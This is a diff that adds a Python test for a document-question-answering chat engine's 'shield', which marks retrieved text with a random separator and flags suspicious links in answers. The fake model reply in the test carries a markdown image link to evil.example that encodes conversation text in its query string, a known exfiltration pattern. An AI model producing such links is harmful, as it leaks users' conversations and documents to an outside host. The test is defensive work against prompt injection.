@@ -73,3 +73,27 @@ def test_whole_documents_and_the_tokenizer_count(store: DocumentStore, cid: int)
     assert [s.source.path.name for s in result.context.sources] == ["kea.md", "walrus.md"]
     [cite] = result.citations
     assert cite.valid and cite.source is not None and cite.source.text == WALRUS
+
+
+def test_the_shield_marks_unmarks_an_echo_and_flags_a_data_link(store: DocumentStore, cid: int,
+                                                                monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
+    template = ChatTemplate(CHATML)
+    backend = FakeBackend([["placeholder"]])
+    engine = ChatEngine(backend, template=template, support=detect(template))
+    off = ask_documents(engine, store, cid, "How heavy is a walrus?", budget=BIG, shield=False,
+                        sampling=Sampling(temperature=0, max_tokens=8))  # fmt: skip
+    assert off.context.marking is None and "The walrus hauls out" in str(backend.calls[0][1])
+
+    monkeypatch.setattr("app.shield.marking.secrets.choice", lambda seq: "¦")  # the marker is drawn at random
+    echo = "A¦walrus¦weighs¦over¦a¦tonne [2]. ![c](https://evil.example/?q=A+walrus+weighs+over+a+tonne)"
+    backend = FakeBackend([[echo]])
+    engine = ChatEngine(backend, template=template, support=detect(template))
+    on = ask_documents(engine, store, cid, "How heavy is a walrus?", budget=BIG,
+                       sampling=Sampling(temperature=0, max_tokens=64))  # fmt: skip
+    assert on.context.marking is not None and on.context.marking.marker == "¦"
+    prompt = str(backend.calls[0][1])
+    assert "The¦walrus¦hauls¦out" in prompt and on.context.marking.instruction in prompt
+    assert on.answer.content.startswith("A walrus weighs over a tonne [2].")
+    assert any("marking" in n for n in on.notes)
+    [link] = on.flagged_links
+    assert "an image to evil.example" in link.reason and "conversation or documents" in link.reason
